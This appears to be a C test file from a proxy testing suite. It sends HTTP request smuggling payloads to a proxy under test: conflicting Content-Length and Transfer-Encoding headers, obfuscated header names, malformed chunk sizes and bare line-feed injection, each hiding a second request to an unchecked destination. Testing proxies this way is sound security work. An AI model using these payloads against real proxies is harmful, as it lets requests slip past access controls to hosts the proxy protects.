/* A request in the body of another (RFC 9112 11.2). Who takes the body to be shorter than the proxy
 * that judged it, takes what follows for a request that nobody has judged. */
#include "network.h"

#define INNER "GET http://$D:$O/$N HTTP/1.1\r\nHost: $D:$O\r\n$L\r\n"
#define POST "POST http://$A:$P/$N HTTP/1.1\r\nHost: $A\r\n$L"
#define SMUGGLE(number, head, body) \
  ATTEMPT(PXY, number) { return ask_proxy(POST head "\r\n" body INNER); }

SMUGGLE(006, "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")
SMUGGLE(207, "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")
SMUGGLE(208, "Transfer-Encoding : chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")
SMUGGLE(209, "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n")
SMUGGLE(210, "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n")
SMUGGLE(211, "Transfer-Encoding: chunked, identity\r\nContent-Length: 5\r\n", "0\r\n\r\n")
SMUGGLE(212, "Transfer-Encoding:\vchunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")
SMUGGLE(213, "X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")
SMUGGLE(214, "Content-Length: 0\r\nContent-Length: 500\r\n", "")
SMUGGLE(215, "Content-Length: 0, 500\r\n", "")
SMUGGLE(216, "Content-Length: +0\r\n", "")
SMUGGLE(217, "Content-Length: 0x0\r\n", "")
SMUGGLE(218, "Content-Length : 0\r\n", "")
SMUGGLE(219, "Content-Length: 18446744073709551616\r\n", "")
SMUGGLE(220, "Transfer-Encoding: chunked\r\n", "0\n\n")
SMUGGLE(221, "Transfer-Encoding: chunked\r\n", "0;\n\r\n\r\n")
SMUGGLE(222, "Transfer-Encoding: chunked\r\n", "-1\r\n\r\n")
SMUGGLE(223, "Transfer-Encoding: chunked\r\n", "ffffffffffffffff0\r\n\r\n")
SMUGGLE(224, "Transfer-Encoding: chunked\r\n", "0\r\nHost: $D:$O\r\n\r\n")
SMUGGLE(225, "Transfer-Encoding: chunked\n", "0\r\n\r\n")
SMUGGLE(226, "X: a\rContent-Length: 0\r\nContent-Length: 500\r\n", "")
SMUGGLE(227, "X: $0\r\nContent-Length: 0\r\n", "")
/* A request that should have no body (RFC 9110 9.3.1, 9.3.6). */
ATTEMPT(PXY, 228) {
  return ask_proxy("GET http://$A:$P/$N HTTP/1.1\r\nHost: $A\r\n$LContent-Length: 0\r\n\r\n" INNER);
}
ATTEMPT(PXY, 229) {
  return ask_proxy("CONNECT $A:$O HTTP/1.1\r\nHost: $A\r\n$LContent-Length: 0\r\n\r\n" INNER);
}
/* A line of the head within a value. */
ATTEMPT(PXY, 230) {
  return ask_proxy(
      "GET http://$A:$P/$N HTTP/1.1\r\nHost: $A\r\n$LX: a\nGET http://$D:$O/$N HTTP/1.1\r\n\r\n");
}
ATTEMPT(PXY, 231) {
  return ask_proxy("GET http://$A:$P/$N\nGET http://$D:$O/$N HTTP/1.1\r\nHost: $A\r\n$L\r\n");
}
